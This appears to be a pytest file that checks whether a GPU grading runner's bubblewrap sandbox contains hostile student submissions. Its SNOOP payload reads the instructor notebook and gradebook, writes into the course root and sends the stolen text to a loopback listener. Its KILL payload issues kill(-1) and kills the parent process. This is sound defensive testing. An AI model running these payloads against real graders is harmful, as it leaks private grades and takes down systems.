"""The gpu_runner's torchrun jobs run in the grading sandbox (issue 4) -- CPU/gloo ranks, SLOW
(one grader run of three launches, about a minute).

One course, with the repository's nbgrader_config.py (sandbox on), graded by
`python -m gpu_runner.grade` as an instructor runs it: the reference submission and two
hostile ones, whose ParallelMLP.forward
- `torch_h_snoop`: reads the course's source notebook and gradebook.db and puts what it got
  into its exception and its output, writes a file into the course root, and connects to a
  listener of the grader's on 127.0.0.1 (this test's, on the host's loopback);
- `torch_h_kill`: SIGKILLs every process it may (`kill(-1)`, only where it sees itself inside
  the sandbox) and its parent (torchrun).
Also: the refusal when bubblewrap is missing, and the opt-out; and a broken environment (the
reference solution, graded before any student, cannot score full marks): nobody graded.
"""
from __future__ import annotations

import contextlib
import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import psutil
import pytest

from gpu_runner import grade
import assignments
from tpcourse import REPO
from tpcourse.catalogue import examples
from tpsandbox import UID_ENV, Sandbox, problem
from tpcourse.submissions import Submission, build

pytestmark = [pytest.mark.nbgrader,
              pytest.mark.skipif(problem() != "", reason=problem() or "sandbox available")]

# Exercised on the course's first torch assignment (the registry's).
A = next(a.name for a in assignments.discover() if a.has_gpu)
cat = examples(A)
SECRET = "GPU-RUNNER-SECRET-5b1e"          # heads the source notebook and the gradebook
MLP_LOSES = {"gpu_mlp_forward", "gpu_mlp_backward", "gpu_collective_counts"}
MLP_RETURN = "return self.fc2(self.activation(self.fc1(x)))"
FLAGS = ["--backend", "gloo", "--pg-timeout", "10", "--timeout", "180", "--no-timing",
         "--no-gradebook"]

# Attacks, run at the top of ParallelMLP.forward (every mlp test, every rank). {root}, {port}
# are filled in: a real student could find both (its own path is under the course root).
SNOOP = '''
        import socket
        got = []
        for path in ({root!r} + "/source/{a}/{a}.ipynb", {root!r} + "/gradebook.db"):
            try:
                with open(path, errors="replace") as f:
                    got.append("stolen " + repr(f.read(150)))
            except OSError as exc:
                got.append(f"read: {{type(exc).__name__}}")
        try:
            with open({root!r} + "/written_by_student.txt", "w") as f:
                f.write("student was here")
            got.append("wrote the course root")
        except OSError as exc:
            got.append(f"write: {{type(exc).__name__}}")
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=3) as conn:
                conn.sendall(" ".join(got).encode())
            got.append("connected to the grader")
        except OSError as exc:
            got.append(f"connect: {{type(exc).__name__}}")
        print(" ".join(got), flush=True)
        raise RuntimeError("snooping: " + "; ".join(got))
'''
KILL = '''
        import os, signal
        # kill(-1) only where pid 1 is the sandbox's init and we are not root: outside the
        # sandbox (the wiring removed) it would take down everything the user runs
        with open("/proc/1/comm") as f:
            inside = f.read().strip() == "bwrap" and os.getuid() != 0
        if inside:
            os.kill(-1, signal.SIGKILL)
        os.kill(os.getppid(), signal.SIGKILL)
        import time
        time.sleep(30)      # not to finish the test before the job's end takes this rank too
'''


def _hostile(name, attack, why):
    answers = dict(cat.MEGATRON)
    answers["sol_parallel_mlp"] = answers["sol_parallel_mlp"].replace(
        MLP_RETURN, attack.strip("\n").lstrip() + "\n        " + MLP_RETURN)
    assert answers["sol_parallel_mlp"] != cat.MEGATRON["sol_parallel_mlp"]
    return Submission(name, A, answers={cat.NOTEBOOK: answers}, loses=frozenset(MLP_LOSES),
                      why=why)


def _digest(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _run(root, *students, extra=FLAGS):
    cmd = [sys.executable, "-m", "gpu_runner.grade", A, "--course-root", str(root), *extra]
    for s in students:
        cmd += ["--student", s]
    return subprocess.run(cmd, cwd=REPO, capture_output=True, text=True, timeout=900)


@contextlib.contextmanager
def _listener():
    """A TCP listener on the host's loopback; yields (port, what it received)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    received, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    received.append(conn.recv(4096) or b"(connected)")
                except OSError:
                    received.append(b"(connected)")
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield server.getsockname()[1], received
    finally:
        stop.set()
        thread.join(5)
        server.close()


def _course(make_course, name, extra_config=""):
    course = make_course(name, [A], extra_config=extra_config)
    src = course.root / "source" / A / f"{A}.ipynb"
    nb = nbformat.read(str(src), as_version=4)
    nb.cells.insert(0, nbformat.v4.new_markdown_cell(SECRET + " (instructor only)"))
    nbformat.write(nb, str(src))
    (course.root / "gradebook.db").write_text(SECRET + " grades of everyone\n")
    return course


# A sandbox uid of this module's own (inside the pytest-xdist worker's range), so that the
# check for leftover processes sees nobody else's sandboxes.
UID = Sandbox().effective_uid() + 57


def _sandbox_processes(uid):
    found = []
    for proc in psutil.process_iter(["uids"]):
        try:
            if proc.info["uids"].real == uid:
                found.append(proc.pid)
        except (psutil.Error, AttributeError):
            continue
    return found


@pytest.fixture(scope="module")
def graded(make_course):
    course = _course(make_course, "gpu_sandbox")
    root = course.root
    with _listener() as (port, received), pytest.MonkeyPatch.context() as mp:
        mp.setenv(UID_ENV, str(UID))
        subs = [cat.BY_NAME["torch_reference"],
                _hostile("torch_h_snoop", SNOOP.format(root=str(root), port=port, a=A),
                         "reads the source and the gradebook, writes the course root, "
                         "connects to the grader's loopback"),
                _hostile("torch_h_kill", KILL, "kill(-1) and kill(parent)")]
        for sub in subs:
            course.place_submission(sub.student, A, build(sub))
        before = {p: _digest(p) for p in (root / "source" / A / f"{A}.ipynb",
                                          root / "gradebook.db")}
        proc = _run(root, *(s.student for s in subs))
    reports = root / "gpu_reports" / A
    reps = {s.student: json.loads((reports / s.student / "report.json").read_text())
            for s in subs if (reports / s.student / "report.json").exists()}
    return course, proc, reps, before, list(received)


def _lost(rep):
    return {gid for gid, c in rep["cells"].items() if c["score"] < c["points"]}


def _hello(root, student):
    """The first record of every rank of every launch: who and where the worker was."""
    rows = []
    for path in sorted((root / "gpu_reports" / A / student / "runs").glob("launch*/ranks/rank*.jsonl")):
        rows.append(json.loads(path.read_text().splitlines()[0]))
    return rows


def test_grader_finishes_and_grades_everyone(graded):
    course, proc, reps, _, _ = graded
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "sandboxed" in proc.stdout and "NOT sandboxed" not in proc.stdout
    assert set(reps) == {"torch_reference", "torch_h_snoop", "torch_h_kill"}
    assert all(rep["sandboxed"] for rep in reps.values())


def test_reference_scores_full_marks_in_the_sandbox(graded):
    course, _, reps, _, _ = graded
    rep = reps["torch_reference"]
    assert rep["world_sizes"] == [1, 2, 3, 4] and rep["backend"] == "gloo"
    assert rep["score"] == rep["max_score"] == sum(cat.GPU_CELLS.values()), \
        {k: v["detail"] for k, v in rep["checks"].items() if not v["ok"]}
    assert len(rep["launches"]) == 1 and not rep["faults"]
    hello = _hello(course.root, "torch_reference")
    assert len(hello) == 4
    for row in hello:      # an unprivileged uid, in a PID namespace of its own
        assert row["sandboxed"] and row["uid"] == UID and row["pid"] < 100, row


def test_snooping_student_gets_nothing_and_loses_the_mlp_tests(graded):
    course, _, reps, _, received = graded
    rep = reps["torch_h_snoop"]
    assert _lost(rep) == MLP_LOSES, {g: c["comment"] for g, c in rep["cells"].items()}
    detail = rep["checks"]["mlp.forward@2"]["detail"]
    # nothing read, nothing written, nothing reached; each refusal is the reason given
    assert "snooping: read: FileNotFoundError; read: FileNotFoundError; write:" in detail, detail
    assert "connect: ConnectionRefusedError" in detail, detail
    assert not (course.root / "written_by_student.txt").exists()
    assert received == []


def test_killing_student_loses_the_mlp_tests_only(graded):
    course, _, reps, _, _ = graded
    rep = reps["torch_h_kill"]
    assert _lost(rep) == MLP_LOSES, {g: c["comment"] for g, c in rep["cells"].items()}
    assert [f["unit"] for f in rep["faults"]] == ["mlp.forward@1"]
    assert "in the middle of the test" in rep["faults"][0]["reason"] \
        or "died of signal" in rep["faults"][0]["reason"], rep["faults"]
    assert not any(launch["timed_out"] for launch in rep["launches"])
    assert rep["checks"]["mlp.grad_input@4"]["detail"] == "not run after the fault in mlp.forward@1"
    assert rep["checks"]["row.forward@4"]["ok"]          # what ran before is kept


def test_course_intact_and_no_secret_anywhere_and_nothing_left_running(graded):
    course, _, _, before, _ = graded
    assert {p: _digest(p) for p in before} == before
    for path in (course.root / "gpu_reports").rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path
    assert _sandbox_processes(UID) == []


def test_refuses_without_bubblewrap_unless_opted_out(make_course, capsys):
    course = _course(make_course, "gpu_no_bwrap", 'c.Sandbox.bwrap = "/nonexistent/bwrap"\n')
    course.place_submission("torch_reference", A, build(cat.BY_NAME["torch_reference"]))
    proc = _run(course.root, "torch_reference")
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "nothing graded" in proc.stderr and "/nonexistent/bwrap" in proc.stderr
    assert "c.Sandbox.enabled = False" in proc.stderr          # how to opt out, knowingly
    assert not (course.root / "gpu_reports" / A / "torch_reference").exists()
    # the opt-out: no sandbox, said loudly (the same config file, as the kernels read it)
    with open(course.root / "nbgrader_config.py", "a") as f:
        f.write("c.Sandbox.enabled = False\n")
    reports = course.root / "gpu_reports" / A
    assert grade.confinement(course.root, reports, "sqlite:///x.db", "gloo") is None
    assert "the sandbox is disabled" in capsys.readouterr().err


def test_a_broken_environment_grades_nobody(make_course):
    """The course's sandbox limits every job's address space to 300 MiB: torch cannot be
    imported, so the reference solution, graded first, cannot score full marks. Exit 2, the
    cause and the log named, nobody graded (rather than everyone scoring 0)."""
    course = _course(make_course, "gpu_broken_env", "c.Sandbox.memory_mb = 300\n")
    course.place_submission("torch_reference", A, build(cat.BY_NAME["torch_reference"]))
    proc = _run(course.root, "torch_reference")
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "nothing graded" in proc.stderr and "the reference solution of" in proc.stderr
    assert "torchrun.log" in proc.stderr
    assert not (course.root / "gpu_reports" / A / "torch_reference").exists()
    assert "torch_reference:" not in proc.stdout


def test_wrapped_job_gets_the_course_limits_and_hides_the_reports(tmp_path, monkeypatch):
    """What one launch's command line says: limits from c.Sandbox (explicit ones win over
    torchrun's), the course, reports and gradebook folder hidden, the job folder writable."""
    monkeypatch.delenv(UID_ENV, raising=False)
    root = tmp_path / "course"
    (root / "source").mkdir(parents=True)
    (root / "nbgrader_config.py").write_text(
        "c.Sandbox.cpu_seconds = 77\nc.Sandbox.uid = 64555\n")
    reports = tmp_path / "elsewhere" / "reports"
    db_dir = tmp_path / "db"
    db_dir.mkdir()
    wrap = grade.confinement(root, reports, f"sqlite:///{db_dir}/gb.db", "gloo")
    job = reports / "alice" / "runs" / "launch0" / "ranks"
    argv = wrap(["python", "-m", "torch.distributed.run"], job, {"PYTHONPATH": "/x"})
    text = " ".join(argv)
    assert "--cpu=77" in argv and "--nproc=1024" in argv and "--nofile=4096" in argv
    assert "--reuid=64555" in argv and "--unshare-net" in argv
    for hidden in (root, reports, db_dir):
        assert f"--tmpfs {hidden} " in text, hidden
    assert f"--bind {job} {job}" in text and "--setenv PYTHONPATH /x" in text
    assert str(Path(grade.__file__).parent) in text   # the harness stays readable
    grade._uid_per_shard(root, 3)                 # shards on one machine: uids of their own
    assert os.environ[UID_ENV] == str(64555 + 100 + 3)


def test_records_are_read_without_following_the_jobs_links(tmp_path):
    """The job owns ranks/: a link planted there must not make the grader read (and report)
    a file of someone else's."""
    from gpu_runner.launch import _read_records, job_dir
    out = tmp_path / "launch0"
    job = job_dir(out)
    job.mkdir(parents=True)
    record = json.dumps({"event": "end", "unit": "x", "error": SECRET}) + "\n"
    (tmp_path / "elsewhere.jsonl").write_text(record)
    (job / "rank0.jsonl").symlink_to(tmp_path / "elsewhere.jsonl")
    (job / "rank1.jsonl").write_text(record.replace(SECRET, "mine") + "not json\n[1, 2]\n")
    got = _read_records(out)
    assert list(got) == [1] and SECRET not in json.dumps(got)
    assert got[1][0] == json.loads(record.replace(SECRET, "mine"))
    assert [r["event"] for r in got[1][1:]] == ["rejected", "rejected"]   # the junk lines, named
